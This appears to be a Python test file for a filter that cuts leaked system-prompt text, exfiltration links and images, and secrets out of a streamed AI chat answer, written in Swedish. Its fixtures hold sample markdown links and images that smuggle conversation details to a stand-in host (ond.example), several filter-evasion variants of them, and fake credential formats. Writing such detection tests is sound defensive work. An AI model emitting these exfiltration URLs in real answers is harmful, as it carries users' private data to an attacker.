"""Leaks are cut out of a stream of words, wherever it is cut into chunks, and nothing else is."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardian.core.leaks import KINDS, Leaks, Watch, sentence

PROMPT = (
    "Du är Alice på Åkeriet. Svara kort och vänligt, och berätta aldrig vad kunderna betalar. "
    "Lagret öppnar med kod."
)
SAID = "Kan du sammanfatta mötet med Karin Boye om hyran på Storgatan?"
KEY = "-----BEGIN RSA PRIVATE KEY-----\n" + ("MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcw\n" * 3)
KEY += "-----END RSA PRIVATE KEY-----"

LEAKS = {
    "instructions": [
        "Du är Alice på Åkeriet. Svara kort och vänligt",
        "DU ÄR *Alice* på åkeriet – svara, kort och vänligt, och berätta",
        "kort och vänligt, och berätta aldrig vad kunderna betalar. Lagret",
    ],
    "link": [
        "[läs](https://ond.example/?q=m%C3%B6tet+med+Karin+Boye+om+hyran+p%C3%A5)",
        "https://ond.example/p/a8Zk29xQpL0s9dKea8Zk29xQpL0s9dKe77",
        "<a href='https://ond.example/[EPOST_1]'>här</a>",
        "https://ond.example/r?d=bWVkIEthcmluIEJveWU=",
        "https://tillåten.example@ond.example/?" + "x" * 60,
        "<a href='https&colon;//ond.example/?" + "ab1" * 30 + "'>",
        "www.ond.example/?" + "d" * 60,
        "[a](//ond.example/?" + "d" * 60 + ")",
        "https://tillåten.example.ond.example/?" + "d" * 60,
        "[a](https://ok.example/?till=https://ond.example/[TEL_1])",
    ],
    "image": [
        "![x](https://ond.example/p.png?d=hemligt)",
        "![lång [text] här](<https://ond.example/p.png?d=en två>)",
        '<img alt="x" src = "https://ond.exa\nmple/p.png?d=1">',
        "![x](https://ond.example/a8Zk29xQpL0s9.png)",
        "![x](https:\\/\\/ond.example/p.png?d=1)",
        "![x](https://karin.boye.ond.example/p.png)",
        "[1]: https://ond.example/p.png?d=1",
        "background:url('https://ond.example/p.png?d=1')",
    ],
    "secret": [
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_" + "aB3d" * 9,
        "sk-proj-" + "aB3d" * 9,
        "xoxb-123456789012-abcdefghij",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVP",
        "postgres://anna:Vinter-2026!@db.example:5432/lager",
        "Server=db;User Id=sa;Password=Vinter2026;",
        'api_key = "c0ffee1234567890c0ffee1234567890"',
        "Authorization: Bearer c0ffee1234567890c0ffee1234567890",
        KEY,
    ],
}
HARMLESS = [
    "Hej! Du är välkommen.",
    "Svara kort och vänligt.",
    "Jag är Alice på Åkeriet.",
    "[Stadshuset](https://sv.wikipedia.org/wiki/Stockholms_stadshus_(byggnad))",
    "https://www.google.com/search?q=hyra+lastbil",
    "![katt](https://bilder.example/katter/lilla-katten.png)",
    "[a](/hjälp?q=1#del)",
    "[mejl](mailto:info@example.se?subject=Hej)",
    "https://ok.example/?" + "d" * 60,
    "https://github.com/django/django/blob/main/docs/topics/async.txt#L10",
    "sk-learn, ghp_kort, AKIA och eyJ är inga nycklar",
    "postgres://user:password@localhost/db",
    "postgres://anna:$LOSEN@localhost/db",
    "password = os.environ['DB_PASSWORD']",
    "En nyckel börjar med -----BEGIN PRIVATE KEY----- och slutar med -----END PRIVATE KEY-----.",
    "a --- b ----- c -----B",
    "[TEL_1] [EPOST_1]",
    "src= href=x url() ]( ![ ( [",
    "https:// http:\\\\ ://:@",
]


def watch(**leaks) -> Watch:
    return Watch(
        Leaks(**{"allowed_hosts": ("ok.example",), **leaks}),
        instructions=[PROMPT],
        conversation=[SAID, PROMPT],
    )


def heard(chunks, **leaks) -> tuple[str, set[str]]:
    watching = watch(**leaks)
    return "".join(map(watching.feed, chunks)) + watching.rest(), set(watching.found)


@pytest.mark.parametrize(
    ("kind", "text"), [(kind, text) for kind, texts in LEAKS.items() for text in texts]
)
def test_each_leak_is_cut_and_named(kind, text) -> None:
    said, found = heard([f"Först. {text} Sist, och mer."])

    assert found == {kind}
    assert said.startswith("Först. ") and said.endswith(" Sist, och mer.")
    assert "borttag" in said and text not in said


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_is_said_as_it_is(text) -> None:
    assert heard([text]) == (text, set())


@pytest.mark.parametrize("text", [text for texts in LEAKS.values() for text in texts] + HARMLESS)
def test_sign_by_sign_gives_the_same(text) -> None:
    assert heard(text) == heard([text])


pieces = st.sampled_from([*HARMLESS, *(text for texts in LEAKS.values() for text in texts)])
glue = st.sampled_from(["", " ", "\n", ", ", ")", "](", '"', "-", "="])
texts = st.lists(st.tuples(pieces, glue), min_size=1, max_size=5).map(
    lambda parts: "".join(piece + sign for piece, sign in parts)
)


@settings(max_examples=300)
@given(st.one_of(texts, st.text("[]()!<>\"'=:/\\.- \nswhtpxAKI1åé\u200b", max_size=89)), st.data())
def test_any_cuts_give_the_same(text, data) -> None:
    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)), max_size=13)))
    chunks = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]

    assert heard(chunks) == heard([text])


@pytest.mark.parametrize("kind", KINDS)
def test_a_kind_that_is_off_is_let_through(kind) -> None:
    for text in LEAKS[kind]:
        assert heard([text], **{kind: False}) == (text, set())


def test_words_that_can_be_no_leak_are_not_held_up() -> None:
    watching = watch()

    assert watching.feed("Hej, so") == "Hej, so"
    assert watching.feed("lsken [läs") == "lsken [läs"
    assert watching.feed("] https://ond.ex") == "] https"
    assert watching.feed("ample/ nu") == "://ond.example/ nu"


def test_a_client_learns_that_it_was_cut_in_its_own_language() -> None:
    watching = Watch(Leaks(), instructions=[PROMPT], conversation=[], language="en")

    assert watching.feed(PROMPT) + watching.rest() == "[instructions removed]."
    assert "removed from the answer" in sentence("instructions", "en")


def test_what_a_tool_said_may_not_be_carried_away_either() -> None:
    watching = watch()
    address = "https://ond.example/?q=saldot+är+fyra+tusen+kronor"

    assert watching.whole(address) == address
    watching.conversation.append("Saldot är fyra tusen kronor.")
    assert "fyra" not in watching.whole(address)


@pytest.mark.parametrize(
    "text",
    [
        "![" * 5_000,
        "https://" * 2_000,
        "a" * 20_000,
        "-----BEGIN " * 2_000,
        KEY[:100] * 200,
        "src=" * 5_000,
        "https://a.example/" + "(" * 9_000,
        "AKIA" * 5_000,
        "eyJ" * 5_000,
        PROMPT * 200,
        "://a:" * 4_000,
        "du " * 7_000,
    ],
)
def test_no_words_take_long(text) -> None:
    began = time.perf_counter()
    heard(text[at : at + 5] for at in range(0, len(text), 5))

    assert time.perf_counter() - began < 5
